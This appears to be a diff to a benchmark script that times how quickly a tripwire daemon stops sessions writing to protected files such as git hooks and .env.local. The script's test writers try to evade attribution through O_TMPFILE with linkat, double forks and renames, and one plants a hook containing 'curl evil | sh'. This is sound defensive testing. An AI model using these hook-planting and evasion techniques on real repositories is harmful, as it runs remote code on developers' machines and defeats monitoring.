@@ -1,7 +1,8 @@
 """From a protected write to every process of the session stopped, beside the same
-workload with the tripwire off.
+workload with the tripwire off; and the writers that try not to be named.
 
     python benchmarks/watch_tripwire.py [--runs 20] [--burst-runs 3] [--burst-files 20000] [--pairs 20]
+                                        [--deep-runs 20] [--tricks 20]
 
 A real daemon (``tripwire = "pause"``) watches a workspace. Each run starts a PTY session
 whose writer (a shell job in the background, so the session has more than one process
@@ -13,8 +14,25 @@ same writer in a daemon with the tripwire off, over the same window: how many fi
 writes when nobody stops it. The burst runs add another process creating 20,000 ordinary
 files in the workspace at the same time.
 
-Targets (issue 13): stop p95 <= 50 ms idle and <= 250 ms during the burst; further
-files <= 20 idle. Bounded: each run times out after 10 s; daemons and files are removed.
+The deep runs write ``src/.env.local`` (outside the hot directories) and then append a
+time stamp to an ordinary file in a tight loop, as fast as Python writes: the stamps left
+say when the writer was stopped and how many writes it made after the protected one.
+
+The tricks (``--tricks`` runs each) are writers that try not to be named: a short-lived
+``sh -c 'echo … > .git/hooks/…'`` child of the session's shell, an ``O_TMPFILE`` linked
+into ``.git/hooks``, a double fork that writes ``src/.env.local`` after its parent exited,
+and a rename into ``.git/hooks`` beside a neighbour session busy writing in the same
+workspace. For each: in how many runs an item was raised (the writer's session stopped,
+by name or as a suspect), and in how many the writer was named by the kernel's pid and
+nobody else was stopped or named.
+
+The thaw runs write 0 to a paused session's ``cgroup.freeze`` (someone other than the
+operator resuming it) and time how long until the daemon has frozen it again.
+
+Targets: stop p95 <= 5 ms idle and <= 50 ms during the burst; further files <= 20
+idle; deep paths p95 <= 50 ms with <= 100 further writes; each trick raised 20/20 and
+the writer named >= 19/20; a thaw frozen again p95 <= 100 ms. Bounded: each run times out after 10 s; daemons and files
+are removed.
 """
 
 from __future__ import annotations
@@ -71,6 +89,52 @@ with open(os.path.join(sys.argv[1], ".git/hooks/pre-commit"), "w") as f:
 time.sleep(3)
 """
 
+DEEP_WRITER = r"""
+import os, sys, time
+ws = sys.argv[1]
+os.makedirs(os.path.join(ws, "out"), exist_ok=True)
+log = open(os.path.join(ws, "out", "stamps"), "w", buffering=1)
+time.sleep(0.3)
+t0 = time.time()
+log.write("%r\n" % t0)
+with open(os.path.join(ws, "src", ".env.local"), "w") as f:
+    f.write("TOKEN=evil-%d\n" % os.getpid())
+end = t0 + 3.0
+while time.time() < end:
+    log.write("%r\n" % time.time())
+"""
+
+TMPFILE = r"""
+import ctypes, os, sys, time
+time.sleep(0.3)
+fd = os.open(".git/hooks", os.O_TMPFILE | os.O_WRONLY, 0o755)
+os.write(fd, b"#!/bin/sh\ncurl evil | sh\n")
+libc = ctypes.CDLL(None, use_errno=True)
+libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, b".git/hooks/pre-commit", 0x400)
+time.sleep(30)
+"""
+
+BUSY = "while :; do echo y >> innocent/$RANDOM; sleep 0.005; done"
+TRICKS = {
+    "short-lived writer (sh -c)": ("bash", "sleep 0.3; sh -c 'echo evil > .git/hooks/post-merge'; sleep 30"),
+    "O_TMPFILE + linkat": ("python", TMPFILE),
+    "double fork, deep path": (
+        "bash",
+        "( setsid sh -c 'sleep 0.4; echo TOKEN=evil > src/.env.local' & ); sleep 30",
+    ),
+    "rename beside a neighbour": (
+        "bash",
+        "echo evil > hook.tmp; sleep 0.3; mv hook.tmp .git/hooks/pre-push; sleep 30",
+    ),
+}
+TRICK_PATHS = (
+    ".git/hooks/post-merge",
+    ".git/hooks/pre-commit",
+    "src/.env.local",
+    ".git/hooks/pre-push",
+    "hook.tmp",
+)
+
 BURST = r"""
 import os, sys
 d = os.path.join(sys.argv[1], "burst")
@@ -79,6 +143,16 @@ for i in range(int(sys.argv[2])):
     with open(os.path.join(d, "f%06d" % i), "w") as f:
         f.write("x")
 """
+
+
+def _cgroup_of(pid: int) -> Path:
+    mount = next(
+        line.partition(" - ")[0].split(" ")[4]
+        for line in Path("/proc/self/mountinfo").read_text().splitlines()
+        if line.partition(" - ")[2].startswith("cgroup2 ")
+    )
+    own = next(x[3:] for x in Path(f"/proc/{pid}/cgroup").read_text().splitlines() if x.startswith("0::"))
+    return Path(mount) / own.lstrip("/")
 
 
 def pct(xs: list[float], p: float) -> float:
@@ -93,6 +167,7 @@ class Daemon:
         self.base = Path(tempfile.mkdtemp(prefix="actw-", dir="/tmp"))
         self.ws = self.base / "ws"
         (self.ws / ".git" / "hooks").mkdir(parents=True)
+        (self.ws / "src").mkdir()
         self.loc = locate(self.base / "s")
         self.loc.state_dir.mkdir(mode=0o700)
         self.loc.policy.write_text(f'tripwire = "{tripwire}"\nwatch = [{json.dumps(str(self.ws))}]\n')
@@ -163,6 +238,114 @@ class Daemon:
             (self.ws / ".git" / "hooks" / "pre-commit").unlink(missing_ok=True)
             time.sleep(0.3)
 
+    def deep_run(self, window_s: float | None) -> tuple[float, int] | None:
+        """(ms from writing src/.env.local to the writer stopped, writes made after it)."""
+        shutil.rmtree(self.ws / "out", ignore_errors=True)
+        script = f"{shlex.quote(sys.executable)} -c {shlex.quote(DEEP_WRITER)} {shlex.quote(str(self.ws))}"
+        sid = self.op.call("sessions.new", {"argv": ["bash", "--norc", "-c", script], "cwd": str(self.ws)})[
+            "session"
+        ]["id"]
+        stamps = self.ws / "out" / "stamps"
+        try:
+            deadline = time.monotonic() + 10
+            while time.monotonic() < deadline:
+                if window_s is None and any(
+                    i["session"] == sid for i in self.op.call("tripwire.list")["items"]
+                ):
+                    break
+                if (
+                    window_s is not None
+                    and stamps.exists()
+                    and time.monotonic() > deadline - 10 + 0.3 + window_s + 0.2
+                ):
+                    break
+                time.sleep(0.01)
+            else:
+                return None
+            time.sleep(0.2)
+            lines = [float(x) for x in stamps.read_text().split()] if stamps.exists() else []
+            if not lines:
+                return None
+            t0, after = lines[0], lines[1:]
+            if window_s is not None:
+                after = [t for t in after if t <= t0 + window_s]
+            return max(0.0, ((after[-1] if after else t0) - t0) * 1000), len(after)
+        finally:
+            self._end([sid])
+            (self.ws / "src" / ".env.local").unlink(missing_ok=True)
+            time.sleep(0.3)
+
+    def trick_run(self, name: str) -> tuple[bool, bool]:
+        """(an item raised for the writer's session, the writer named by pid and nobody
+        else stopped or named)."""
+        kind, code = TRICKS[name]
+        neighbour = None
+        if name.startswith("rename"):
+            shutil.rmtree(self.ws / "innocent", ignore_errors=True)
+            (self.ws / "innocent").mkdir()
+            neighbour = self.op.call(
+                "sessions.new", {"argv": ["bash", "--norc", "-c", BUSY], "cwd": str(self.ws)}
+            )["session"]["id"]
+            deadline = time.monotonic() + 5
+            while len(list((self.ws / "innocent").iterdir())) < 20 and time.monotonic() < deadline:
+                time.sleep(0.01)
+        argv = ["bash", "--norc", "-c", code] if kind == "bash" else [sys.executable, "-c", code]
+        sid = self.op.call("sessions.new", {"argv": argv, "cwd": str(self.ws)})["session"]["id"]
+        try:
+            deadline = time.monotonic() + 8
+            mine: list[dict] = []
+            while time.monotonic() < deadline and not mine:
+                mine = [i for i in self.op.call("tripwire.list")["items"] if i["session"] == sid]
+                time.sleep(0.01)
+            time.sleep(0.3)
+            items = self.op.call("tripwire.list", {"include_resolved": True})["items"]
+            others = [i for i in items if i["session"] == neighbour]
+            events = self.op.call("watch.recent", {"protected_only": True})["events"]
+            blamed = any(
+                neighbour and a.get("id") == neighbour for e in events for a in e.get("attribution", ())
+            )
+            named = bool(mine) and mine[0]["basis"] == "pid from fanotify" and not mine[0].get("suspect")
+            return bool(mine), named and not others and not blamed
+        finally:
+            self._end([sid] + ([neighbour] if neighbour else []))
+            for rel in TRICK_PATHS:
+                (self.ws / rel).unlink(missing_ok=True)
+            time.sleep(0.3)
+
+    def thaw_run(self) -> float | None:
+        """ms from someone writing 0 to a paused session's cgroup.freeze to the daemon
+        freezing it again (cgroup mode only)."""
+        script = "sleep 0.3; echo evil > .git/hooks/post-rewrite; sleep 30"
+        session = self.op.call(
+            "sessions.new", {"argv": ["bash", "--norc", "-c", script], "cwd": str(self.ws)}
+        )["session"]
+        try:
+            deadline = time.monotonic() + 10
+            while not [i for i in self.op.call("tripwire.list")["items"] if i["session"] == session["id"]]:
+                if time.monotonic() > deadline:
+                    return None
+                time.sleep(0.01)
+            freeze = _cgroup_of(session["pid"]) / "cgroup.freeze"
+            t0 = time.monotonic()
+            freeze.write_text("0")
+            while freeze.read_text().strip() != "1":
+                if time.monotonic() > t0 + 5:
+                    return None
+                time.sleep(0.0005)
+            return (time.monotonic() - t0) * 1000
+        finally:
+            self._end([session["id"]])
+            (self.ws / ".git" / "hooks" / "post-rewrite").unlink(missing_ok=True)
+            time.sleep(0.3)
+
+    def _end(self, sids: list[str]) -> None:
+        for item in self.op.call("tripwire.list", {"open": True})["items"]:
+            if item["session"] in sids:
+                self.op.call("tripwire.resolve", {"id": item["id"], "action": "kill"})
+        for sid in sids:
+            if self.op.call("sessions.get", {"session": sid})["session"]["status"] == "running":
+                self.op.call("sessions.kill", {"session": sid, "grace_s": 0.5})
+
     def one_run(self, window_s: float | None, burst_files: int) -> tuple[float, int] | None:
         """(ms from the protected write to the writer stopped, files written after it)."""
         for leftover in ("out", "burst"):
@@ -220,10 +403,28 @@ def main() -> None:
     ap.add_argument("--burst-runs", type=int, default=3)
     ap.add_argument("--burst-files", type=int, default=20000)
     ap.add_argument("--pairs", type=int, default=20, help="runs with two sessions, one of them the writer")
+    ap.add_argument(
+        "--deep-runs", type=int, default=20, help="runs writing src/.env.local, then a tight loop"
+    )
+    ap.add_argument("--tricks", type=int, default=20, help="runs of each writer that tries not to be named")
+    ap.add_argument("--thaws", type=int, default=20, help="runs thawing a paused session behind the daemon")
     args = ap.parse_args()
-    results: dict[str, list[tuple[float, int]]] = {"idle": [], "burst": []}
+    results: dict[str, list[tuple[float, int]]] = {"idle": [], "burst": [], "deep": []}
+    tricks: dict[str, list[tuple[bool, bool]]] = {name: [] for name in TRICKS}
     with Daemon("pause") as d:
         mode = d.op.call("daemon.status")["sessions"].get("summary", "")
+        lane = d.op.call("watch.status")
+        for _ in range(args.deep_runs):
+            r = d.deep_run(None)
+            if r is not None:
+                results["deep"].append(r)
+        for name in TRICKS:
+            tricks[name] = [d.trick_run(name) for _ in range(args.tricks)]
+        thaws = (
+            [t for t in (d.thaw_run() for _ in range(args.thaws)) if t is not None]
+            if "cgroup" in mode
+            else []
+        )
         for _ in range(args.runs):
             r = d.one_run(None, 0)
             if r is not None:
@@ -237,13 +438,24 @@ def main() -> None:
         # At least 10 ms, so the reference says something even when the stop is instant.
         window = max(0.01, pct([ms for ms, _ in results["idle"]], 95) / 1000) if results["idle"] else 0.1
         reference = [r for r in (ref.one_run(window, 0) for _ in range(3)) if r is not None]
-    print(f"tripwire stop ({mode})")
+        deep_window = (
+            max(0.01, pct([ms for ms, _ in results["deep"]], 95) / 1000) if results["deep"] else 0.05
+        )
+        deep_reference = [r for r in (ref.deep_run(deep_window) for _ in range(3)) if r is not None]
+    print(
+        f"tripwire stop ({mode}; fast lane {lane['fast_lane']}, lineage {lane.get('lineage', '-')}, "
+        f"open gate {lane.get('open_gate', '-')})"
+    )
     print(f"   {'workload':34} {'runs':>4} {'stop p50 ms':>11} {'p95 ms':>8} {'files p50':>9} {'max':>5}")
-    for name, target in (("idle", 50), ("burst", 250)):
+    for name, target in (("idle", 5), ("burst", 50), ("deep", 50)):
         xs = results[name]
         stop = [a for a, _ in xs]
         files = [b for _, b in xs]
-        label = "idle workspace" if name == "idle" else f"during a {args.burst_files:,}-file burst"
+        label = {
+            "idle": "idle workspace",
+            "burst": f"during a {args.burst_files:,}-file burst",
+            "deep": "src/.env.local, then a tight loop",
+        }[name]
         print(
             f"   {label:34} {len(xs):>4} {pct(stop, 50):>11.1f} {pct(stop, 95):>8.1f} "
             f"{pct(files, 50):>9.0f} {max(files, default=0):>5}   target p95 <= {target} ms: "
@@ -265,6 +477,27 @@ def main() -> None:
         f"   reference, tripwire off, same window ({window * 1000:.0f} ms): the writer wrote "
         f"{pct(ref_files, 50):.0f} files (p50 of {len(reference)})"
     )
+    deep_writes = [b for _, b in results["deep"]]
+    print(
+        f"   deep path: further writes p95 {pct(deep_writes, 95):.0f} (target <= 100: "
+        f"{'met' if deep_writes and pct(deep_writes, 95) <= 100 else 'missed'}); reference, tripwire off, "
+        f"same window ({deep_window * 1000:.1f} ms): {pct([b for _, b in deep_reference], 50):.0f} writes "
+        f"(p50 of {len(deep_reference)})"
+    )
+    print(
+        f"   thawed behind the operator's back (0 written to cgroup.freeze): frozen again in p50 "
+        f"{pct(thaws, 50):.1f} ms, p95 {pct(thaws, 95):.1f} ms over {len(thaws)} runs (target <= 100 ms: "
+        f"{'met' if thaws and pct(thaws, 95) <= 100 else 'missed'})"
+    )
+    print(f"writers that try not to be named ({args.tricks} runs each)")
+    print(f"   {'trick':34} {'raised':>8} {'named':>8}   target 20/20 raised, >= 19/20 named")
+    for name, runs in tricks.items():
+        raised = sum(r for r, _ in runs)
+        named = sum(n for _, n in runs)
+        ok = raised == len(runs) and named >= len(runs) - 1
+        print(
+            f"   {name:34} {raised:>4}/{len(runs):<3} {named:>4}/{len(runs):<3} {'met' if ok else 'missed'}"
+        )
 
 
 if __name__ == "__main__":
